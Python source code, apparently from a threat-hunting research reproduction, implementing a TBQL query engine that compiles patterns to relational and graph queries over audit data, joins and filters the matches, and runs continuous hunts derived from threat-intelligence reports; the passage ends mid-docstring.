        """Execute a TBQL query (AST or source text) over the stored audit data.

        With a sharded store the query runs on every shard's engine and the
        per-shard results are merged (rows concatenated, matched event ids
        unioned, ``DISTINCT`` re-applied globally).
        """
        if len(self._engines) == 1:
            return self._engine.execute(query, optimize=self.config.optimize_execution)
        ast = parse_query(query) if isinstance(query, str) else query
        results = [
            engine.execute(ast, optimize=self.config.optimize_execution)
            for engine in self._engines
        ]
        return merge_results(results, distinct=ast.distinct)

    def analyze_query(self, query: Query | str) -> "AnalysisReport":
        """Statically analyze a TBQL query against this pipeline's store.

        Runs the full lint-rule catalog (satisfiability, dead predicates,
        cost against the store's index statistics, backend portability) and
        returns the :class:`~repro.tbql.analysis.AnalysisReport` without
        gating anything — callers decide what to do with the findings.
        """
        return self._engine.analyze(query)

    def prepare_query(
        self, query: Query | str, window_hints: tuple[str, ...] = ()
    ) -> PreparedExecution:
        """Prepare a TBQL query for repeated execution (standing hunts).

        Parsing, semantic analysis, scheduling and per-pattern data-query
        compilation happen once; each ``execute`` call pays only for
        execution.  The streaming monitor prepares every registered hunt this
        way, passing the temporal sink as a window hint.

        With a sharded store the compiled plan is looked up in (and shared
        through) the pipeline-wide :class:`SharedPlanCache` under the query's
        **canonical key**, so N shards — and semantically equivalent
        re-registrations — reuse one compiled plan instead of preparing N
        times.
        """
        if self.plan_cache is None:
            return self._engine.prepare(
                query, optimize=self.config.optimize_execution, window_hints=window_hints
            )
        ast = parse_query(query) if isinstance(query, str) else query
        key = SharedPlanCache.key(ast, window_hints, self.config.optimize_execution)
        cached = self.plan_cache.get(key)
        if cached is not None:
            return cached
        prepared = self._engine.prepare(
            ast, optimize=self.config.optimize_execution, window_hints=window_hints
        )
        sharded = ShardedPreparedQuery(prepared=prepared, engines=self._engines)
        self.plan_cache.put(key, sharded)
        return sharded

    # -- continuous hunting ------------------------------------------------------------

    def watch(
        self,
        report_text: str | None = None,
        query: Query | str | None = None,
        name: str = "hunt",
        batch_size: int = 256,
        sinks: "tuple[AlertSink, ...]" = (),
        checkpoint_dir: str | None = None,
    ) -> "HuntingService":
        """Create a continuous hunting service bound to this pipeline.

        The returned :class:`~repro.streaming.service.HuntingService` shares
        this instance's audit store and execution engine, so data already
        loaded stays huntable and streamed batches land in the same backends.
        When ``report_text`` (an OSCTI report, synthesized on registration) or
        ``query`` (TBQL) is given, a standing hunt called ``name`` is
        registered immediately; either way more hunts can be registered on the
        service afterwards.

        With ``checkpoint_dir`` the hunt is crash-safe: standing state is
        checkpointed there (``checkpoint.json``) after every micro-batch,
        alerts are journaled durably (``alerts.jsonl``), and when the
        directory already holds a checkpoint the service *resumes* from it —
        previously delivered alerts are never re-emitted.
        """
        from repro.streaming.service import HuntingService

        if checkpoint_dir is None:
            service = HuntingService(raptor=self, batch_size=batch_size, sinks=sinks)
        else:
            from pathlib import Path

            from repro.streaming.checkpoint import CheckpointStore
            from repro.streaming.journal import JournalSink

            store = CheckpointStore(checkpoint_dir)
            journal = JournalSink(Path(checkpoint_dir) / "alerts.jsonl")
            service = HuntingService.resume(
                store,
                raptor=self,
                batch_size=batch_size,
                sinks=sinks,
                journal=journal,
            )
        if report_text is not None or query is not None:
            if service.hunt(name) is None:
                service.register_hunt(name, report=report_text, query=query)
        return service

    def hunt_corpus(
        self,
        reports: "ReportCorpus | object",
        workers: int = 1,
        service: "HuntingService | None" = None,
        batch_size: int = 256,
        sinks: "tuple[AlertSink, ...]" = (),
        name_prefix: str = "corpus",
    ) -> "CorpusHuntResult":
        """Register the deduped standing hunts for a whole OSCTI report corpus.

        Every report is extracted (in parallel when ``workers > 1``), its
        behavior graph synthesized into a TBQL query, and semantically
        equivalent queries from overlapping reports are canonicalized into
        **one** standing hunt each on the returned result's
        :class:`~repro.streaming.service.HuntingService`.  Alerts raised by
        those hunts carry the ids of every originating report.

        Args:
            reports: A :class:`~repro.intel.corpus.ReportCorpus` or any
                iterable of :class:`~repro.intel.corpus.CorpusReport` /
                :class:`~repro.data.osctireports.AnnotatedReport` /
                ``(id, text)`` items.
            workers: Extraction worker-pool size.
            service: Register onto an existing hunting service (repeated
                corpus passes dedup against its hunts); a fresh one bound to
                this pipeline is built when omitted.
            batch_size: Micro-batch size for a newly built service.
            sinks: Initial alert sinks for a newly built service.
            name_prefix: Prefix for generated hunt names.
        """
        from repro.intel.corpus import ReportCorpus
        from repro.intel.hunt import CorpusHuntPlanner
        from repro.streaming.service import HuntingService

        if service is None:
            service = HuntingService(raptor=self, batch_size=batch_size, sinks=sinks)
        planner = CorpusHuntPlanner(self, workers=workers, name_prefix=name_prefix)
        return planner.register(ReportCorpus.coerce(reports), service)

    # -- end to end ----------------------------------------------------------------------

    def hunt(self, report_text: str) -> HuntReport:
        """Run the full pipeline: extract → synthesize → execute."""
        extraction = self.extract_behavior_graph(report_text)
        query = self.synthesize_query(extraction.graph)
        result = self.execute_query(query)
        return HuntReport(
            extraction=extraction,
            behavior_graph=extraction.graph,
            query=query,
            query_text=format_query(query),
            result=result,
            load_report=self._load_report,
        )
