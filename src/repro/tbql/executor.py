"""The TBQL query execution engine.

The engine compiles each pattern of a TBQL query into a backend data query —
SQL-style select-project-join queries against the relational store for event
patterns, Cypher-style path searches against the graph store for
variable-length path patterns — and schedules their execution with the
pruning-score policy of :mod:`repro.tbql.scheduler`.  Results of earlier,
more selective patterns constrain later data queries by adding entity-id
filters, and the per-pattern match sets are then joined on shared entity
identifiers, filtered by the ``with`` clause's temporal and attribute
relationships, and projected according to the ``return`` clause.
"""

from __future__ import annotations

import time
from dataclasses import dataclass
from typing import Any, Iterable

from repro.errors import ExecutionError
from repro.storage.graph.pattern import PathMatcher
from repro.storage.loader import AuditStore
from repro.tbql.ast import EventPattern, Pattern, PathPattern, Query, FilterOperator
from repro.tbql.compiler.cypher_compiler import CypherCompiler
from repro.tbql.compiler.sql_compiler import SQLCompiler
from repro.tbql.parser import parse_query
from repro.tbql.result import TBQLResult
from repro.tbql.scheduler import ExecutionScheduler, ScheduledPattern
from repro.tbql.semantics import AnalyzedQuery, SemanticAnalyzer

#: A variable binding: entity identifier -> entity dict, plus one event dict
#: per pattern stored under the key ``"@<event id>"``.
Binding = dict[str, dict[str, Any]]


@dataclass
class PatternMatchSet:
    """All matches of one pattern, as partial bindings."""

    pattern: Pattern
    bindings: list[Binding]
    elapsed_seconds: float


class TBQLExecutionEngine:
    """Executes TBQL queries against an :class:`~repro.storage.loader.AuditStore`.

    Args:
        store: The combined relational + graph audit store to query.
        backend: ``"auto"`` (event patterns on the relational backend, path
            patterns on the graph backend — the paper's design), ``"relational"``
            (everything on the relational backend; path patterns still fall
            back to the graph store), or ``"graph"`` (everything on the graph
            backend).  The non-default modes exist for the backend-comparison
            benchmarks.
    """

    def __init__(self, store: AuditStore, backend: str = "auto") -> None:
        if backend not in ("auto", "relational", "graph"):
            raise ExecutionError(f"unknown backend {backend!r}")
        self._store = store
        self._backend = backend
        self._sql = SQLCompiler()
        self._cypher = CypherCompiler()
        self._scheduler = ExecutionScheduler()
        self._analyzer = SemanticAnalyzer()

    # -- public API ------------------------------------------------------------

    def execute(self, query: Query | str, optimize: bool = True) -> TBQLResult:
        """Execute a TBQL query (AST or source text).

        Args:
            query: The query to run.
            optimize: Use pruning-score scheduling with constraint propagation
                when True; plain declaration-order execution without
                propagation when False (the EXP-QUERY-LAT baseline).
        """
        started = time.perf_counter()
        ast = parse_query(query) if isinstance(query, str) else query
        analyzed = self._analyzer.analyze(ast)
        schedule = (
            self._scheduler.schedule(ast) if optimize else self._scheduler.schedule_unoptimized(ast)
        )

        statistics: dict[str, Any] = {
            "schedule": [step.pattern.event_id for step in schedule],
            "pattern_matches": {},
            "pattern_seconds": {},
            "optimized": optimize,
        }

        bindings = self._execute_schedule(schedule, analyzed, optimize, statistics)
        bindings = self._apply_temporal_relations(ast, bindings)
        bindings = self._apply_attribute_relations(ast, bindings)
        result = self._project(ast, analyzed, bindings)
        result.statistics = statistics
        result.statistics["total_seconds"] = time.perf_counter() - started
        result.statistics["result_rows"] = len(result.rows)
        return result

    # -- schedule execution -------------------------------------------------------

    def _execute_schedule(
        self,
        schedule: list[ScheduledPattern],
        analyzed: AnalyzedQuery,
        optimize: bool,
        statistics: dict[str, Any],
    ) -> list[Binding]:
        combined: list[Binding] | None = None
        bound_identifiers: set[str] = set()
        for step in schedule:
            constraints = {}
            if optimize and combined is not None:
                constraints = self._collect_constraints(step, combined)
            match_set = self._execute_pattern(step.pattern, constraints)
            statistics["pattern_matches"][step.pattern.event_id] = len(match_set.bindings)
            statistics["pattern_seconds"][step.pattern.event_id] = match_set.elapsed_seconds
            if combined is None:
                combined = match_set.bindings
            else:
                shared = tuple(
                    identifier
                    for identifier in dict.fromkeys(step.pattern.entity_identifiers())
                    if identifier in bound_identifiers
                )
                combined = self._join(combined, match_set.bindings, shared)
            bound_identifiers.update(step.pattern.entity_identifiers())
            if not combined:
                # Early termination: a conjunctive query with an empty pattern
                # result can never produce rows.
                return []
        return combined or []

    def _collect_constraints(
        self, step: ScheduledPattern, bindings: list[Binding]
    ) -> dict[str, set[int]]:
        constraints: dict[str, set[int]] = {}
        for identifier in step.constrained_identifiers:
            ids = {
                int(binding[identifier]["id"])
                for binding in bindings
                if identifier in binding
            }
            if ids:
                constraints[identifier] = ids
        return constraints

    # -- per-pattern execution -------------------------------------------------------

    def _execute_pattern(
        self, pattern: Pattern, constraints: dict[str, set[int]]
    ) -> PatternMatchSet:
        started = time.perf_counter()
        subject_ids = constraints.get(pattern.subject.identifier)
        object_ids = constraints.get(pattern.obj.identifier)
        if isinstance(pattern, PathPattern) or self._backend == "graph":
            bindings = self._execute_on_graph(pattern, subject_ids, object_ids)
        else:
            bindings = self._execute_on_relational(pattern, subject_ids, object_ids)
        return PatternMatchSet(
            pattern=pattern, bindings=bindings, elapsed_seconds=time.perf_counter() - started
        )

    def _execute_on_relational(
        self,
        pattern: EventPattern,
        subject_ids: Iterable[int] | None,
        object_ids: Iterable[int] | None,
    ) -> list[Binding]:
        compiled = self._sql.compile(
            pattern, subject_id_constraint=subject_ids, object_id_constraint=object_ids
        )
        result = self._store.relational.execute(compiled.query)
        bindings: list[Binding] = []
        for row in result.as_dicts():
            subject = {
                key.split(".", 1)[1]: value
                for key, value in row.items()
                if key.startswith("subject.")
            }
            obj = {
                key.split(".", 1)[1]: value
                for key, value in row.items()
                if key.startswith("object.")
            }
            event = {
                key.split(".", 1)[1]: value
                for key, value in row.items()
                if key.startswith("event.")
            }
            event["edge_ids"] = (event["id"],)
            bindings.append(
                {
                    pattern.subject.identifier: subject,
                    pattern.obj.identifier: obj,
                    f"@{pattern.event_id}": event,
                }
            )
        return bindings

    def _execute_on_graph(
        self,
        pattern: Pattern,
        subject_ids: Iterable[int] | None,
        object_ids: Iterable[int] | None,
    ) -> list[Binding]:
        if isinstance(pattern, PathPattern):
            compiled = self._cypher.compile_path(
                pattern, subject_id_constraint=subject_ids, object_id_constraint=object_ids
            )
        else:
            compiled = self._cypher.compile_event(
                pattern, subject_id_constraint=subject_ids, object_id_constraint=object_ids
            )
        matcher = PathMatcher(self._store.graph)
        bindings: list[Binding] = []
        for path in matcher.match(compiled.graph_pattern):
            subject_node, object_node = path.start, path.end
            subject = dict(subject_node.properties)
            subject["id"] = subject_node.node_id
            subject["type"] = subject_node.label
            obj = dict(object_node.properties)
            obj["id"] = object_node.node_id
            obj["type"] = object_node.label
            # A path pattern's event identifier refers to the *final hop* (the
            # declared operation); temporal relations in the with clause are
            # evaluated against that hop's time window.
            final_edge = path.edges[-1]
            event = {
                "id": final_edge.edge_id,
                "srcid": path.nodes[-2].node_id,
                "dstid": object_node.node_id,
                "optype": final_edge.relationship,
                "starttime": final_edge.start_time,
                "endtime": final_edge.end_time,
                "amount": final_edge.get("amount", 0),
                "edge_ids": path.edge_ids(),
            }
            bindings.append(
                {
                    pattern.subject.identifier: subject,
                    pattern.obj.identifier: obj,
                    f"@{pattern.event_id}": event,
                }
            )
        return bindings

    # -- joining -------------------------------------------------------------------

    @staticmethod
    def _join(
        left: list[Binding], right: list[Binding], shared: tuple[str, ...]
    ) -> list[Binding]:
        """Hash-join two binding sets on the ``shared`` entity identifiers.

        ``shared`` comes from the patterns' *declared* entity identifiers, not
        from inspecting the first binding of each side: a binding missing a
        declared identifier must fail loudly rather than silently dropping the
        join key and cross-joining.
        """
        if not left or not right:
            return []

        def key_of(binding: Binding) -> tuple[Any, ...]:
            try:
                return tuple(binding[name]["id"] for name in shared)
            except KeyError as exc:
                raise ExecutionError(
                    f"binding is missing shared entity identifier {exc.args[0]!r}"
                ) from None

        buckets: dict[tuple[Any, ...], list[Binding]] = {}
        for binding in left:
            buckets.setdefault(key_of(binding), []).append(binding)
        joined: list[Binding] = []
        for binding in right:
            for match in buckets.get(key_of(binding), []) if shared else left:
                joined.append({**match, **binding})
        return joined

    # -- with clause --------------------------------------------------------------------

    @staticmethod
    def _apply_temporal_relations(query: Query, bindings: list[Binding]) -> list[Binding]:
        if not query.temporal_relations or not bindings:
            return bindings
        normalized = [relation.normalized() for relation in query.temporal_relations]

        def satisfies(binding: Binding) -> bool:
            for relation in normalized:
                earlier = binding.get(f"@{relation.left}")
                later = binding.get(f"@{relation.right}")
                if earlier is None or later is None:
                    raise ExecutionError(
                        f"temporal relation references unknown event {relation.left!r} or {relation.right!r}"
                    )
                if not earlier["endtime"] <= later["starttime"]:
                    return False
            return True

        return [binding for binding in bindings if satisfies(binding)]

    @staticmethod
    def _apply_attribute_relations(query: Query, bindings: list[Binding]) -> list[Binding]:
        if not query.attribute_relations or not bindings:
            return bindings

        comparators = {
            FilterOperator.EQ: lambda a, b: a == b,
            FilterOperator.NEQ: lambda a, b: a != b,
            FilterOperator.LT: lambda a, b: a < b,
            FilterOperator.LTE: lambda a, b: a <= b,
            FilterOperator.GT: lambda a, b: a > b,
            FilterOperator.GTE: lambda a, b: a >= b,
        }

        def satisfies(binding: Binding) -> bool:
            for relation in query.attribute_relations:
                left = binding.get(f"@{relation.left_event}")
                right = binding.get(f"@{relation.right_event}")
                if left is None or right is None:
                    raise ExecutionError(
                        "attribute relation references unknown event "
                        f"{relation.left_event!r} or {relation.right_event!r}"
                    )
                comparator = comparators[relation.operator]
                if not comparator(left.get(relation.left_attribute), right.get(relation.right_attribute)):
                    return False
            return True

        return [binding for binding in bindings if satisfies(binding)]

    # -- projection --------------------------------------------------------------------

    @staticmethod
    def _project(query: Query, analyzed: AnalyzedQuery, bindings: list[Binding]) -> TBQLResult:
        columns = tuple(f"{item.identifier}.{item.attribute}" for item in query.return_items)
        rows: list[tuple[Any, ...]] = []
        for binding in bindings:
            row = []
            for item in query.return_items:
                entity = binding.get(item.identifier, {})
                row.append(entity.get(item.attribute))
            rows.append(tuple(row))
        if query.distinct:
            seen: set[tuple[Any, ...]] = set()
            unique: list[tuple[Any, ...]] = []
            for row in rows:
                if row not in seen:
                    seen.add(row)
                    unique.append(row)
            rows = unique

        matched: dict[str, set[int]] = {}
        for binding in bindings:
            for key, value in binding.items():
                if key.startswith("@"):
                    matched.setdefault(key[1:], set()).update(value.get("edge_ids", ()))

        return TBQLResult(
            columns=columns,
            rows=tuple(rows),
            matched_event_ids=matched,
            bindings=bindings,
        )


def execute_query(store: AuditStore, query: Query | str, optimize: bool = True) -> TBQLResult:
    """Module-level convenience wrapper around :class:`TBQLExecutionEngine`."""
    return TBQLExecutionEngine(store).execute(query, optimize=optimize)
