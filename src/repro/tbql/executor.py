"""The TBQL query execution engine.

The engine compiles each pattern of a TBQL query into a backend data query —
SQL-style select-project-join queries against the relational store for event
patterns, Cypher-style path searches against the graph store for
variable-length path patterns — and schedules their execution with the
pruning-score policy of :mod:`repro.tbql.scheduler`.  Results of earlier,
more selective patterns constrain later data queries by adding entity-id
filters, and the per-pattern match sets are then joined on shared entity
identifiers, filtered by the ``with`` clause's temporal and attribute
relationships, and projected according to the ``return`` clause.

Two hot-path mechanisms keep per-row overhead low:

* relational pattern matches become **zero-copy bindings**: each result row
  stays one tuple, and the subject/object/event "dicts" of a binding are
  :class:`~repro.storage.relational.query.RowFieldView` slices over it, so no
  per-row dict splitting happens;
* a standing query can be **prepared** once
  (:meth:`TBQLExecutionEngine.prepare`) and re-executed per micro-batch from
  cached per-pattern compiled plans — see :mod:`repro.tbql.prepared`.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, replace
from typing import TYPE_CHECKING, Any, Iterable, Sequence

from repro.errors import ExecutionError
from repro.storage.graph.pattern import PathMatcher
from repro.storage.graph.planner import CostGuidedPathMatcher
from repro.storage.loader import AuditStore
from repro.storage.relational.query import RowFieldView, SelectQuery
from repro.tbql.analysis.analyzer import StaticAnalyzer
from repro.tbql.analysis.diagnostics import AnalysisPolicy, AnalysisReport
from repro.tbql.ast import EventPattern, Pattern, PathPattern, Query, FilterOperator, TimeWindow
from repro.tbql.compiler.cypher_compiler import CypherCompiler
from repro.tbql.compiler.sql_compiler import SQLCompiler
from repro.tbql.parser import parse_query
from repro.tbql.result import TBQLResult
from repro.tbql.scheduler import ExecutionScheduler, ScheduledPattern
from repro.tbql.semantics import AnalyzedQuery, SemanticAnalyzer

if TYPE_CHECKING:  # pragma: no cover - typing only, avoids an import cycle
    from repro.tbql.prepared import PreparedQuery

#: A variable binding: entity identifier -> entity mapping, plus one event
#: mapping per pattern stored under the key ``"@<event id>"``.  Relational
#: matches use zero-copy ``RowFieldView`` mappings; graph matches use dicts.
Binding = dict[str, Any]


@dataclass
class PatternMatchSet:
    """All matches of one pattern, as partial bindings."""

    pattern: Pattern
    bindings: list[Binding]
    elapsed_seconds: float
    #: EXPLAIN summary of the graph planner's strategy choice, when the
    #: pattern executed on the graph backend (``None`` otherwise).
    graph_plan: dict[str, Any] | None = None


class _ConstraintCache:
    """Per-identifier entity-id sets over the current combined binding set.

    The schedule asks for constraint id-sets after every step; several
    identifiers may be requested against the same binding list.  This cache
    collects all missing identifiers in a *single* pass over the bindings and
    memoizes the sets until the binding list itself is replaced (after a
    join), instead of rebuilding each set from all prior bindings from
    scratch per identifier.
    """

    def __init__(self) -> None:
        self._source: list[Binding] | None = None
        self._sets: dict[str, set[int]] = {}

    def constraints_for(
        self, identifiers: Sequence[str], bindings: list[Binding]
    ) -> dict[str, set[int]]:
        if bindings is not self._source:
            self._source = bindings
            self._sets = {}
        missing = [name for name in identifiers if name not in self._sets]
        if missing:
            collected: dict[str, set[int]] = {name: set() for name in missing}
            for binding in bindings:
                for name in missing:
                    entity = binding.get(name)
                    if entity is not None:
                        collected[name].add(int(entity["id"]))
            self._sets.update(collected)
        return {name: self._sets[name] for name in identifiers if self._sets[name]}


class TBQLExecutionEngine:
    """Executes TBQL queries against an :class:`~repro.storage.loader.AuditStore`.

    Args:
        store: The combined relational + graph audit store to query.
        backend: ``"auto"`` (event patterns on the relational backend, path
            patterns on the graph backend — the paper's design), ``"relational"``
            (everything on the relational backend; path patterns still fall
            back to the graph store), ``"sql"`` (like ``"relational"``, but the
            store's relational engine is the sqlite3-backed
            :class:`~repro.storage.sql.database.SqliteRelationalDatabase`), or
            ``"graph"`` (everything on the graph backend).  The non-default
            modes exist for the backend-comparison benchmarks and the
            differential harness.
        graph_matcher: ``"planner"`` (the cost-guided
            :class:`~repro.storage.graph.planner.CostGuidedPathMatcher`, the
            default) or ``"reference"`` (the always-forward DFS
            :class:`~repro.storage.graph.pattern.PathMatcher`, kept as the
            correctness oracle for property tests and benchmarks).
        analysis_mode: ``"enforce"`` (static-analysis errors reject the query
            before execution/preparation — the default), ``"warn"`` (analysis
            runs, findings are reported, nothing gates) or ``"off"`` (no
            static analysis).
        analysis_policy: Per-rule severity/threshold overrides for the static
            analyzer.
    """

    def __init__(
        self,
        store: AuditStore,
        backend: str = "auto",
        graph_matcher: str = "planner",
        analysis_mode: str = "enforce",
        analysis_policy: AnalysisPolicy | None = None,
    ) -> None:
        if backend not in ("auto", "relational", "sql", "graph"):
            raise ExecutionError(f"unknown backend {backend!r}")
        if graph_matcher not in ("planner", "reference"):
            raise ExecutionError(f"unknown graph matcher {graph_matcher!r}")
        if analysis_mode not in ("enforce", "warn", "off"):
            raise ExecutionError(f"unknown analysis mode {analysis_mode!r}")
        self._store = store
        self._backend = backend
        self._graph_matcher = graph_matcher
        self._sql = SQLCompiler()
        self._cypher = CypherCompiler()
        self._scheduler = ExecutionScheduler()
        self._analyzer = SemanticAnalyzer()
        self.analysis_mode = analysis_mode
        self._static = StaticAnalyzer(store=store, backend=backend, policy=analysis_policy)

    # -- public API ------------------------------------------------------------

    def analyze(
        self, query: Query | str, analyzed: AnalyzedQuery | None = None
    ) -> AnalysisReport:
        """Statically analyze a query without executing or gating anything.

        Semantic analysis is left to the static analyzer so that its memoized
        reports short-circuit before any semantics re-run.
        """
        ast = parse_query(query) if isinstance(query, str) else query
        return self._static.analyze(ast, analyzed)

    def admission_check(
        self, ast: Query, analyzed: AnalyzedQuery
    ) -> AnalysisReport | None:
        """The static-analysis gate in front of execution and preparation.

        Returns the report (``None`` under ``analysis_mode="off"``).

        Raises:
            TBQLAnalysisError: in ``"enforce"`` mode, when any error-severity
                diagnostic is present.
        """
        if self.analysis_mode == "off":
            return None
        report = self._static.analyze(ast, analyzed)
        if self.analysis_mode == "enforce":
            report.raise_for_errors()
        return report

    def execute(self, query: Query | str, optimize: bool = True) -> TBQLResult:
        """Execute a TBQL query (AST or source text).

        Args:
            query: The query to run.
            optimize: Use pruning-score scheduling with constraint propagation
                when True; plain declaration-order execution without
                propagation when False (the EXP-QUERY-LAT baseline).
        """
        started = time.perf_counter()
        ast = parse_query(query) if isinstance(query, str) else query
        analyzed = self._analyzer.analyze(ast)
        self.admission_check(ast, analyzed)
        schedule = (
            self._scheduler.schedule(ast) if optimize else self._scheduler.schedule_unoptimized(ast)
        )
        return self._run(ast, analyzed, schedule, optimize, started)

    def prepare(
        self,
        query: Query | str,
        optimize: bool = True,
        window_hints: tuple[str, ...] = (),
    ) -> "PreparedQuery":
        """Parse/analyze/schedule ``query`` once for repeated execution.

        The returned :class:`~repro.tbql.prepared.PreparedQuery` caches the
        semantic analysis, the execution schedule and per-pattern compiled
        data-query plans, so standing queries re-executed per micro-batch pay
        only for execution.  ``window_hints`` names patterns that will receive
        per-execution window overrides, so scheduling can account for them.
        """
        from repro.tbql.prepared import PreparedQuery

        ast = parse_query(query) if isinstance(query, str) else query
        return PreparedQuery(
            engine=self, query=ast, optimize=optimize, window_hints=window_hints
        )

    def execute_prepared(
        self,
        prepared: "PreparedQuery",
        window_overrides: dict[str, TimeWindow] | None = None,
    ) -> TBQLResult:
        """Execute a :class:`PreparedQuery`, optionally overriding pattern windows.

        ``window_overrides`` maps a pattern's event id to the
        :class:`~repro.tbql.ast.TimeWindow` to use for this execution — the
        streaming monitor narrows the temporal-sink pattern to the current
        watermark this way without re-deriving anything else.
        """
        started = time.perf_counter()
        result = self._run(
            prepared.query,
            prepared.analyzed,
            prepared.schedule,
            prepared.optimize,
            started,
            plans=prepared,
            window_overrides=window_overrides,
        )
        result.statistics["prepared"] = True
        result.statistics["plan_cache"] = prepared.cache_info()
        return result

    # -- shared pipeline -------------------------------------------------------

    def _run(
        self,
        ast: Query,
        analyzed: AnalyzedQuery,
        schedule: list[ScheduledPattern],
        optimize: bool,
        started: float,
        plans: "PreparedQuery | None" = None,
        window_overrides: dict[str, TimeWindow] | None = None,
    ) -> TBQLResult:
        statistics: dict[str, Any] = {
            "schedule": [step.pattern.event_id for step in schedule],
            "pattern_matches": {},
            "pattern_seconds": {},
            "graph_plans": {},
            "optimized": optimize,
        }
        bindings = self._execute_schedule(
            schedule, analyzed, optimize, statistics, plans, window_overrides
        )
        bindings = self._apply_temporal_relations(ast, bindings)
        bindings = self._apply_attribute_relations(ast, bindings)
        result = self._project(ast, analyzed, bindings)
        result.statistics = statistics
        result.statistics["total_seconds"] = time.perf_counter() - started
        result.statistics["result_rows"] = len(result.rows)
        return result

    # -- schedule execution -------------------------------------------------------

    def _execute_schedule(
        self,
        schedule: list[ScheduledPattern],
        analyzed: AnalyzedQuery,
        optimize: bool,
        statistics: dict[str, Any],
        plans: "PreparedQuery | None" = None,
        window_overrides: dict[str, TimeWindow] | None = None,
    ) -> list[Binding]:
        combined: list[Binding] | None = None
        bound_identifiers: set[str] = set()
        constraint_cache = _ConstraintCache()
        for step in schedule:
            constraints = {}
            if optimize and combined is not None:
                constraints = self._collect_constraints(step, combined, constraint_cache)
            match_set = self._execute_pattern(
                step.pattern, constraints, plans, window_overrides
            )
            statistics["pattern_matches"][step.pattern.event_id] = len(match_set.bindings)
            statistics["pattern_seconds"][step.pattern.event_id] = match_set.elapsed_seconds
            if match_set.graph_plan is not None:
                statistics["graph_plans"][step.pattern.event_id] = match_set.graph_plan
            if combined is None:
                combined = match_set.bindings
            else:
                shared = tuple(
                    identifier
                    for identifier in dict.fromkeys(step.pattern.entity_identifiers())
                    if identifier in bound_identifiers
                )
                combined = self._join(combined, match_set.bindings, shared)
            bound_identifiers.update(step.pattern.entity_identifiers())
            if not combined:
                # Early termination: a conjunctive query with an empty pattern
                # result can never produce rows.
                return []
        return combined or []

    def _collect_constraints(
        self,
        step: ScheduledPattern,
        bindings: list[Binding],
        cache: _ConstraintCache | None = None,
    ) -> dict[str, set[int]]:
        if cache is not None:
            return cache.constraints_for(step.constrained_identifiers, bindings)
        constraints: dict[str, set[int]] = {}
        for identifier in step.constrained_identifiers:
            ids = {
                int(binding[identifier]["id"])
                for binding in bindings
                if identifier in binding
            }
            if ids:
                constraints[identifier] = ids
        return constraints

    # -- per-pattern execution -------------------------------------------------------

    def _execute_pattern(
        self,
        pattern: Pattern,
        constraints: dict[str, set[int]],
        plans: "PreparedQuery | None" = None,
        window_overrides: dict[str, TimeWindow] | None = None,
    ) -> PatternMatchSet:
        started = time.perf_counter()
        subject_ids = constraints.get(pattern.subject.identifier)
        object_ids = constraints.get(pattern.obj.identifier)
        effective = pattern
        if window_overrides is not None:
            override = window_overrides.get(pattern.event_id)
            if override is not None:
                effective = replace(pattern, window=override)
        graph_plan: dict[str, Any] | None = None
        if isinstance(effective, PathPattern) or self._backend == "graph":
            bindings, graph_plan = self._execute_on_graph(
                effective, subject_ids, object_ids, plans
            )
        else:
            if plans is not None:
                compiled = plans.relational_query(
                    pattern, effective.window, subject_ids, object_ids
                )
            else:
                compiled = self._sql.compile(
                    effective,
                    subject_id_constraint=subject_ids,
                    object_id_constraint=object_ids,
                ).query
            bindings = self._execute_on_relational(effective, compiled)
        return PatternMatchSet(
            pattern=pattern,
            bindings=bindings,
            elapsed_seconds=time.perf_counter() - started,
            graph_plan=graph_plan,
        )

    def _execute_on_relational(
        self, pattern: EventPattern, compiled: SelectQuery
    ) -> list[Binding]:
        result = self._store.relational.execute(compiled)
        if not result.rows:
            return []
        # The compiled projection names outputs "subject.*", "object.*" and
        # "event.*"; group them once, then expose each row through zero-copy
        # field views instead of splitting it into three dicts.
        groups = result.column_groups()
        subject_fields = groups.get("subject", {})
        object_fields = groups.get("object", {})
        event_fields = groups.get("event", {})
        event_id_index = event_fields["id"]
        subject_key = pattern.subject.identifier
        object_key = pattern.obj.identifier
        event_key = f"@{pattern.event_id}"
        bindings: list[Binding] = []
        for row in result.rows:
            bindings.append(
                {
                    subject_key: RowFieldView(row, subject_fields),
                    object_key: RowFieldView(row, object_fields),
                    event_key: RowFieldView(
                        row, event_fields, {"edge_ids": (row[event_id_index],)}
                    ),
                }
            )
        return bindings

    def _execute_on_graph(
        self,
        pattern: Pattern,
        subject_ids: Iterable[int] | None,
        object_ids: Iterable[int] | None,
        plans: "PreparedQuery | None" = None,
    ) -> tuple[list[Binding], dict[str, Any] | None]:
        """Run one pattern on the graph backend.

        Prepared executions fetch the compiled path pattern from the shared
        plan cache (window and entity-id constraints attached to the cached
        template); ad-hoc executions compile it on the spot.  Returns the
        bindings plus the planner's EXPLAIN summary.
        """
        if plans is not None:
            graph_pattern = plans.graph_query(
                pattern, pattern.window, subject_ids, object_ids
            )
        elif isinstance(pattern, PathPattern):
            graph_pattern = self._cypher.compile_path(
                pattern, subject_id_constraint=subject_ids, object_id_constraint=object_ids
            ).graph_pattern
        else:
            graph_pattern = self._cypher.compile_event(
                pattern, subject_id_constraint=subject_ids, object_id_constraint=object_ids
            ).graph_pattern
        if self._graph_matcher == "reference":
            matcher = PathMatcher(self._store.graph)
        else:
            matcher = CostGuidedPathMatcher(self._store.graph)
        bindings: list[Binding] = []
        for path in matcher.match(graph_pattern):
            subject_node, object_node = path.start, path.end
            subject = dict(subject_node.properties)
            subject["id"] = subject_node.node_id
            subject["type"] = subject_node.label
            obj = dict(object_node.properties)
            obj["id"] = object_node.node_id
            obj["type"] = object_node.label
            # A path pattern's event identifier refers to the *final hop* (the
            # declared operation); temporal relations in the with clause are
            # evaluated against that hop's time window.
            final_edge = path.edges[-1]
            event = {
                "id": final_edge.edge_id,
                "srcid": path.nodes[-2].node_id,
                "dstid": object_node.node_id,
                "optype": final_edge.relationship,
                "starttime": final_edge.start_time,
                "endtime": final_edge.end_time,
                "amount": final_edge.get("amount", 0),
                "edge_ids": path.edge_ids(),
            }
            bindings.append(
                {
                    pattern.subject.identifier: subject,
                    pattern.obj.identifier: obj,
                    f"@{pattern.event_id}": event,
                }
            )
        plan_summary = None
        if isinstance(matcher, CostGuidedPathMatcher) and matcher.last_plan is not None:
            plan_summary = matcher.last_plan.describe()
        return bindings, plan_summary

    # -- joining -------------------------------------------------------------------

    @staticmethod
    def _join(
        left: list[Binding], right: list[Binding], shared: tuple[str, ...]
    ) -> list[Binding]:
        """Hash-join two binding sets on the ``shared`` entity identifiers.

        ``shared`` comes from the patterns' *declared* entity identifiers, not
        from inspecting the first binding of each side: a binding missing a
